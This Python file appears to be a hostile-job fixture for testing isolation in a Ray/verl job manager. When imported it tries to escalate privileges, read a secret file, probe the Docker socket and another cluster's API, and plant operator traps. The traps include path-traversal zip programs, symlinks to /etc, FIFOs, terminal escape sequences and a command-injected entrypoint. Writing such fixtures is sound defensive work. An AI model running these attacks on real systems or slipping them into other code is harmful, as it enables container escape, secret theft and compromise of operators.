"""The code of a hostile job: a dataset class that first tries to get out of its cluster, and records how far it got.

Everything here is done with the rights that every job has: those of its process in a worker.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import socket
import subprocess
import urllib.error
import urllib.request
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from verl.utils.dataset.multiturn_sft_dataset import MultiTurnSFTDataset as Dataset  # noqa: F401 - trained with

ARCHIVE = Path(os.environ["ARGUS_VERL_ARCHIVE"])
ROOT = ARCHIVE.parents[1]
# A file of the machine that only Ansible's user there can read, at its path there.
VICTIM = Path("/tmp/argus-verl-victim/secret")  # noqa: S108
OTHER_HEAD = "scenarios-other-head"
# Whatever runs this on a head leaves a trace that everybody can see.
PWNED = "import pathlib, socket; pathlib.Path('{root}/pwned-' + socket.gethostname()).touch()\n"
ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m \x9b31m \u202etxt.exe \x1bP+q\x1b\\"


def status_of_process() -> dict[str, str]:
    lines = Path("/proc/self/status").read_text(encoding="utf-8").splitlines()
    return dict(line.split(":\t", 1) for line in lines if ":\t" in line)


def tried(attack: Callable[[], Any]) -> str:
    """What came of an attack: its result, or the error that stopped it."""
    try:
        return f"done: {attack()}"
    except (OSError, subprocess.SubprocessError) as error:
        return f"stopped: {type(error).__name__}"


def answer(address: str, token: str = "") -> int:
    request = urllib.request.Request(address)  # noqa: S310
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    with urllib.request.urlopen(request, timeout=5) as response:  # noqa: S310
        return int(response.status)


def mount() -> int:
    result = ctypes.CDLL(None, use_errno=True).mount(b"none", b"/mnt", b"tmpfs", 0, None)
    if result:
        raise OSError(ctypes.get_errno(), "mount")
    return int(result)


def own_token() -> str:
    return Path(os.environ["RAY_AUTH_TOKEN_PATH"]).read_text(encoding="utf-8").strip()


def from_inside() -> dict[str, str]:
    """Attacks on the container, the machine, and the other cluster over the network."""
    return {
        "become root": tried(lambda: os.setuid(0)),
        "su": tried(lambda: subprocess.run(["/bin/su", "-c", "true"], check=True, capture_output=True, timeout=5)),
        "mount": tried(mount),
        "write to the image": tried(lambda: Path("/opt/verl/hostile").touch()),
        "write the token": tried(lambda: Path(os.environ["RAY_AUTH_TOKEN_PATH"]).write_text("x", encoding="utf-8")),
        "read the victim": tried(VICTIM.read_text),
        "the engine's socket": tried(Path("/var/run/docker.sock").stat),
        "the registry": tried(lambda: list(Path("/var/lib/argus-verl/jobs").iterdir())),
        "own token at the other head": tried(lambda: answer(f"http://{OTHER_HEAD}:8265/api/jobs/", own_token())),
        "the other head without a token": tried(lambda: answer(f"http://{OTHER_HEAD}:8265/api/jobs/")),
    }


def link(path: Path, target: Path | str) -> None:
    if path.is_symlink() or path.is_file():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


def plant_program(directory: Path) -> None:
    """A program of its own, which the archive names as the one that the job was submitted with."""
    file = directory / "config" / "argus-000000000000.zip"
    file.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(file, "w") as program:
        program.writestr("__main__.py", PWNED.format(root=ROOT))
    record = {"version": "0.1.0", "program": f"../..{file}"}
    (directory / "config" / "argus.json").write_text(json.dumps(record), encoding="utf-8")


def plant_archive(name: str, head: str) -> None:
    """An archive of a job that a head seems to have lost."""
    planted = ROOT / "jobs" / name
    plant_program(planted)
    (planted / "logs").mkdir()
    (planted / "debug").mkdir()
    plan = {"entrypoint": f"touch {ROOT}/pwned-entrypoint; true", "workload": "sft", "address": "http://127.0.0.1:8265"}
    for file, value in {
        "config/plan.json": plan,
        "config/runtime_env.json": {"env_vars": {}},
        "config/job_spec.json": {"workload": "sft", "secrets": ["HOSTILE_SECRET"]},
        "steward.json": {"time": 1, "host": head, "pid": 1},
        "status.json": {"state": "QUEUED", "submission_id": name, "queued_at": 1, "reason": ESCAPES},
    }.items():
        (planted / file).write_text(json.dumps(value), encoding="utf-8")


def on_the_shared_root() -> None:
    """Traps for the operator's next commands."""
    for head in (OTHER_HEAD, "scenarios-ray-head"):
        plant_archive(f"planted-{head}", head)
    for archive in (ROOT / "jobs" / "kept", ARCHIVE):
        plant_program(archive)
    # What is submitted again.
    file = ARCHIVE / "config" / "job_spec.json"
    file.write_text(json.dumps(json.loads(file.read_text(encoding="utf-8")) | {"secrets": ["PATH"]}), encoding="utf-8")
    # Locks and progress, as links to a file of root.
    for target in (
        "common/code/verl/.verl-0.9.1.lock",
        "common/code/verl/.hostile.lock",
        "common/models/.tiny-qwen2.lock",
        "datasets/.gsm8k_tiny_sft.lock",
        "user/code/evil.py",
    ):
        link(ROOT / target, VICTIM)
    # What the operator fetches.
    link(ARCHIVE / "debug" / "victim.txt", VICTIM)
    link(ARCHIVE / "logs" / "driver.log.1", VICTIM)
    link(ARCHIVE / "debug" / "etc", "/etc")
    os.mkfifo(ARCHIVE / "debug" / "fifo")
    (ARCHIVE / "debug" / "one").write_text("twice", encoding="utf-8")
    os.link(ARCHIVE / "debug" / "one", ARCHIVE / "debug" / "two")
    with (ARCHIVE / "debug" / "sparse").open("wb") as file:
        file.truncate(1 << 40)
    # What every verb reads.
    for name, content in {"list": "[]", "deep": "[" * 100_000, "binary": "\x00\ud800", "number": "1e999"}.items():
        bad = ROOT / "jobs" / f"bad-{name}"
        bad.mkdir()
        (bad / "status.json").write_bytes(content.encode(errors="surrogatepass"))
        (bad / "steward.json").write_bytes(content.encode(errors="surrogatepass"))
    (ROOT / "jobs" / "bad-fifo" / "config").mkdir(parents=True)
    for name in ("status.json", "steward.json", "config/job_spec.json"):
        os.mkfifo(ROOT / "jobs" / "bad-fifo" / name)
    link(ROOT / "jobs" / "bad-link", "/etc")
    # A place that the machine's process makes directories in.
    shutil.rmtree(ROOT / "common" / "datasets")
    link(ROOT / "common" / "datasets", VICTIM.parent)


def attack() -> None:
    report = ARCHIVE / "debug" / "attacks.json"
    if report.exists():
        return
    process = status_of_process()
    result = {
        "attacks": from_inside(),
        "process": {key: process[key] for key in ("Uid", "CapEff", "NoNewPrivs")},
        "host": socket.gethostname(),
    }
    on_the_shared_root()
    print(f"hostile text {ESCAPES}", flush=True)
    report.write_text(json.dumps(result, indent=1), encoding="utf-8")


attack()
